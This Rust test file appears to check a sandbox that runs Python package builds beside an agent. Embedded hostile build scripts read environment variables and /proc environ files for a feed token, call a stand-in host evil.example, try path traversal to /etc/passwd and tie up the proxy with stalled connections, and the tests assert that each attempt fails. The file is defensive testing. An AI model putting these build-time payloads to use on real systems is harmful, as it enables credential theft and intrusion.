//! What a package's own code can do while it is built: it runs beside the agent.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use flowgate_runtime::gate::GatePolicy;

use crate::index::{Answer, FakeIndex};
use crate::place::{Place, With, find};
use crate::{TOKEN, gate, private_feed};

/// A source archive whose build runs a program, and then fails, so that its output is shown.
fn source(program: &str) -> Vec<u8> {
    const PACK: &str = r#"
import io, sys, tarfile
program = sys.stdin.read()
files = {
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    "PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    "backend.py": program + "\nraise SystemExit('as intended')\n",
}
with tarfile.open(fileobj=sys.stdout.buffer, mode="w:gz") as archive:
    for name, text in files.items():
        info = tarfile.TarInfo("evil-1.0/" + name)
        info.size = len(text)
        archive.addfile(info, io.BytesIO(text.encode()))
"#;
    let mut command = Command::new(find("python3").unwrap());
    command.args(["-I", "-c", PACK]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    child.stdin.take().unwrap().write_all(program.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success());
    output.stdout
}

/// Wheels for this Python, for others, and a version that has one for others only.
const MANY: [&str; 4] = [
    "many-1.0-py3-none-any.whl",
    "many-1.0-cp27-cp27m-win_amd64.whl",
    "many-2.0-cp27-cp27mu-linux_s390x.whl",
    "many-2.0.tar.gz",
];

/// Has a program run in the build of a package, and gives what it printed, the error, and the paths that were asked for.
async fn built(program: &str, big: Vec<u8>, cache: &Path) -> (String, String, Vec<String>) {
    let archive = source(program);
    let index = FakeIndex::start(move |seen| match seen.path.as_str() {
        "/simple/evil/" => Answer::Links(vec!["evil-1.0.tar.gz".to_owned()]),
        "/simple/evil/evil-1.0.tar.gz" => Answer::File(archive.clone()),
        "/simple/many/" => Answer::Links(MANY.map(str::to_owned).to_vec()),
        "/simple/big/" => Answer::Links(vec!["big-1.0.tar.gz".to_owned(), "big-2.0.tar.gz".to_owned()]),
        "/simple/big/big-1.0.tar.gz" | "/simple/big/big-2.0.tar.gz" => Answer::File(big.clone()),
        _ => Answer::Status(404),
    })
    .await;
    let gate = gate(GatePolicy::none().with(private_feed(&index.url())), cache);
    let mut place = Place::new(With::Pip).await.unwrap();
    let line = format!("-i http://{{private}}@127.0.0.1:{}/simple/", index.port);
    let error = place.install(&gate, &[&line, "evil"]).await.unwrap_err();
    let printed = place.lines.join("\n");
    assert!(printed.contains("as intended"), "{printed}\n{error:?}");
    (printed, error.message, index.paths())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_build_finds_no_secret_and_no_network() {
    let cache = tempfile::tempdir().unwrap();
    let program = r#"
import glob, os, urllib.request
print("ENVIRONMENT", sorted(os.environ.items()))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read().decode(errors="replace")
        print("FOUND" if "t0ken" + "-of-the-feed" in text and "nextest" not in text else "", end="")
    except OSError:
        pass
for url in ["http://evil.example/x?data=1", "https://evil.example/"]:
    try:
        urllib.request.urlopen(url, timeout=20)
        print("OPEN", url)
    except Exception as error:
        print("CLOSED", url, error)
"#;
    let (printed, message, _) = built(program, Vec::new(), cache.path()).await;
    assert!(printed.contains("ENVIRONMENT") && printed.contains("PIP_NO_INPUT"), "{printed}");
    for secret in [TOKEN, "FOUND", "OPEN", "of-the-place", "PLACE_SECRET", "http://127.0.0.1:9/none/"] {
        assert!(!printed.contains(secret), "{secret}: {printed}");
    }
    assert_eq!(printed.matches("there is no network here: packages come from the indexes").count(), 2, "{printed}");
    for place in ["http://evil.example/x was refused: there is no network here", "evil.example:443 was refused: "] {
        assert!(message.contains(place), "{message}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn only_what_an_index_needs_is_answered() {
    let cache = tempfile::tempdir().unwrap();
    let program = r#"
import http.client, os
port = int(os.environ["http_proxy"].rsplit(":", 1)[1])
def ask(name, method, path, headers={}, body=None):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    try:
        connection.request(method, path, body=body, headers=headers)
        answer = connection.getresponse()
        print(name, answer.status, len(answer.read()) > 0)
    except Exception as error:
        print(name, type(error).__name__)
ask("GET", "GET", "/0/simple/evil/")
ask("HEAD", "HEAD", "/0/simple/evil/")
ask("OTHER", "GET", "/1/simple/evil/")
ask("UP", "GET", "/0/simple/../../../etc/passwd")
ask("ENCODED", "GET", "/0/simple/..%2f..%2fetc/")
ask("FILE", "GET", "/f/0/evil-1.0.tar.gz")
ask("NAME", "GET", "/f/0/other.tar.gz")
ask("UNKNOWN", "GET", "/f/99/evil-1.0.tar.gz")
ask("POST", "POST", "/0/simple/evil/", body=b"x" * 1000)
ask("BODY", "GET", "/0/simple/evil/", body=b"x")
ask("DELETE", "DELETE", "/0/simple/evil/")
ask("HEADERS", "GET", "/0/simple/evil/", headers={"X-Long": "x" * 20000})
"#;
    let (printed, _, paths) = built(program, Vec::new(), cache.path()).await;
    for line in [
        "GET 200 True",
        "HEAD 200 False",
        "OTHER 403 True",
        "UP 403 True",
        "ENCODED 403 True",
        "FILE 200 True",
        "NAME 403 True",
        "UNKNOWN 403 True",
        "POST 403 True",
        "BODY 403 True",
        "DELETE 403 True",
        "HEADERS 431 False",
    ] {
        assert!(printed.contains(line), "{line}: {printed}");
    }
    assert!(paths.iter().all(|path| path.starts_with("/simple/evil/")), "{paths:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn wheels_for_others_stay_away() {
    let cache = tempfile::tempdir().unwrap();
    let program = r#"
import os, re, urllib.request
page = urllib.request.urlopen(os.environ["http_proxy"] + "/0/simple/many/", timeout=20).read().decode()
print("OFFERED", re.findall("<a [^>]*>([^<]*)</a>", page))
"#;
    let (printed, _, _) = built(program, Vec::new(), cache.path()).await;
    let offered = format!("OFFERED {:?}", [MANY[0], MANY[2], MANY[3]]).replace('"', "'");
    assert!(printed.contains(&offered), "{offered}: {printed}");
}

#[tokio::test(flavor = "multi_thread")]
async fn downloads_that_nobody_reads_hold_up_no_other() {
    let cache = tempfile::tempdir().unwrap();
    let program = r##"
import hashlib, os, re, socket, urllib.request
gate = os.environ["http_proxy"]
page = urllib.request.urlopen(gate + "/0/simple/big/").read().decode()
files = re.findall('href="([^"#]+)', page)
stuck = []
for _ in range(40):
    connection = socket.create_connection(("127.0.0.1", int(gate.rsplit(":", 1)[1])))
    connection.sendall(f"GET {files[0]} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    connection.recv(1)
    stuck.append(connection)
body = urllib.request.urlopen(gate + files[1]).read()
print("WHOLE", len(body), hashlib.sha256(body).hexdigest())
"##;
    let big: Vec<u8> = (0..16_u32 << 20).map(|n| (n % 251) as u8).collect();
    let sum: String = {
        use sha2::{Digest, Sha256};
        Sha256::digest(&big).iter().map(|byte| format!("{byte:02x}")).collect()
    };
    let (printed, _, paths) = built(program, big, cache.path()).await;
    assert!(printed.contains(&format!("WHOLE {} {sum}", 16 << 20)), "{printed}");
    // Forty readers share one download.
    assert_eq!(paths.iter().filter(|path| path.ends_with("big-1.0.tar.gz")).count(), 1);
}
